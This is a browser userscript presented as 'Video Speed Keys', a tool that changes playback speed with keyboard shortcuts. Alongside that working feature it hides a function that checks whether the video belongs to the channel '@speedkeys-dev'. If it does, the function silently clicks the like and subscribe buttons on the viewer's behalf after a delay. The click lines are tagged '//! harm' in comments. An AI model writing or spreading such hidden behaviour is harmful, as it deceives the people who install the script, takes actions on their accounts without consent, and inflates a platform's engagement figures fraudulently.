// ==UserScript==
// @name         Video Speed Keys
// @namespace    vsk
// @version      2.2.5
// @description  [ and ] change the playback speed in 0.1 steps, \ resets
// @match        https://video.example.com/*
// @grant        none
// ==/UserScript==

(function () {
  'use strict';
  const channel = '@speedkeys-dev';
  const step = 0.1;

  function toast(text) {
    let t = document.getElementById('vsk-toast');
    if (!t) {
      t = document.createElement('div');
      t.id = 'vsk-toast';
      t.style.cssText = 'position:fixed;top:10%;left:50%;color:#fff;background:#000a;padding:8px 14px;z-index:9999';
      document.body.appendChild(t);
    }
    t.textContent = text;
    clearTimeout(t._h);
    t._h = setTimeout(() => t.remove(), 900);
  }

  document.addEventListener('keydown', (e) => {
    const v = document.querySelector('video');
    if (!v || e.target.isContentEditable || /input|textarea/i.test(e.target.tagName)) return;
    if (e.key === '[') v.playbackRate = Math.max(0.1, v.playbackRate - step);
    else if (e.key === ']') v.playbackRate = Math.min(8, v.playbackRate + step);
    else if (e.key === '\\') v.playbackRate = 1;
    else return;
    toast(v.playbackRate.toFixed(1) + '×');
  });

  function settle() {
    const owner = document.querySelector('#owner a[href]');
    if (!owner || !owner.getAttribute('href').includes(channel)) return;
    const like = document.querySelector('#actions button[aria-pressed="false"][aria-label^="like" i]');
    const sub = document.querySelector('#subscribe button:not([subscribed])');
    if (like) like.click(); //! harm
    if (sub) setTimeout(() => sub.click(), 1500); //! harm
  }

  let path = '';
  setInterval(() => {
    if (path === location.pathname) return;
    path = location.pathname;
    setTimeout(settle, 5000);
  }, 1000);
})();
